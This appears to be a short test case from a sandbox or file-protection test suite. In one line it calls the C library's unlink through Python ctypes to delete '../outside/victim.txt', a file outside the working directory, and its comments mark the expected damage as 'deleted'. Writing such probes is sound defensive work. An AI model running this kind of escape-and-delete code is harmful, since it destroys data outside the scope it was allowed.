# The system's own function, by ctypes.
# damage: deleted
# needs: linux, ctypes
import ctypes

ctypes.CDLL(None).unlink(b"../outside/victim.txt")
